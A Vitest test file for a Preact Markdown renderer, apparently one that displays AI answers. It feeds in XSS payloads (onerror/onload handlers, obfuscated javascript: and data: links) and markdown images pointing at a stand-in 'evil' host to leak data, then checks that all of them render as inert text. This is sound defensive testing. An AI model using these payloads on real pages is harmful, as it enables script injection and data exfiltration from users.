// @vitest-environment happy-dom
import { render } from "preact";
import { expect, test } from "vitest";
import { Markdown } from "./Markdown.tsx";

function shown(text: string): HTMLElement {
  const root = document.createElement("div");
  render(<Markdown text={text} />, root);
  return root;
}

const active = "img,svg,math,script,style,iframe,form,input,object,embed,video,audio,link,meta,base";

test.each([
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><style>*{}</style></svg>",
  "<math><mtext></mtext><style><img src=x onerror=alert(1)></style></math>",
  '<p style="background:url(https://evil/)">x</p>',
  "<script>alert(1)</script>",
  '<iframe src="https://evil/"></iframe>',
  "<form action=https://evil/><input autofocus onfocus=alert(1)></form>",
  "- [ ] <details open ontoggle=alert(1)>",
])("markup in an answer is text: %s", (text) => {
  const root = shown(`before\n\n${text}\n\nafter`);
  expect(root.querySelector(active)).toBeNull();
  expect(root.querySelector("[style],[onerror],[onload],[ontoggle],[onfocus],[src]")).toBeNull();
  expect(root.textContent).toContain("after");
});

test.each(["![secret](https://evil/?d=1)", "![secret][e]\n\n[e]: https://evil/?d=1"])(
  "%j asks for no picture",
  (text) => {
    const root = shown(text);
    expect(root.querySelector("img")).toBeNull();
    expect(root.textContent).toContain("secret");
  },
);

test.each([
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#115;cript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:x)",
  "[x](//evil/)",
  "[x](<javascript:alert(1)>)",
  "<javascript:alert(1)>",
])("%s leads nowhere", (text) => {
  expect(shown(text).querySelector("a")).toBeNull();
});

test("a link to the web opens elsewhere and hands nothing over", () => {
  const link = shown("[site](https://example.com/a)").querySelector("a");
  expect(link?.getAttribute("href")).toBe("https://example.com/a");
  expect(link?.getAttribute("rel")).toBe("noopener noreferrer");
  expect(link?.getAttribute("target")).toBe("_blank");
});

test("markup that was split over chunks stays text at every length", () => {
  const text = 'a <img src=x onerror="alert(1)"> [b](javascript:alert(1)) <svg/onload=alert(1)> c';
  for (let length = 1; length <= text.length; length++) {
    const root = shown(text.slice(0, length));
    expect(root.querySelector(active)).toBeNull();
    expect(root.querySelector("a")).toBeNull();
  }
});

test("headings, lists, tables and emphasis become elements", () => {
  const root = shown(
    "# Title\n\n3. **one**\n4. `two`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> quoted\n\n```\ncode <b>\n```",
  );
  expect(root.querySelector("h2")?.textContent).toBe("Title");
  expect(root.querySelector("ol")?.getAttribute("start")).toBe("3");
  expect(root.querySelector("li strong")?.textContent).toBe("one");
  expect(root.querySelector("td")?.textContent).toBe("1");
  expect(root.querySelector("blockquote")?.textContent).toBe("quoted");
  expect(root.querySelector("pre code")?.textContent).toBe("code <b>");
});

test("entities and special characters read as what they stand for", () => {
  expect(shown("Müller &amp; Söhne: 5 < 6").textContent).toBe("Müller & Söhne: 5 < 6");
});
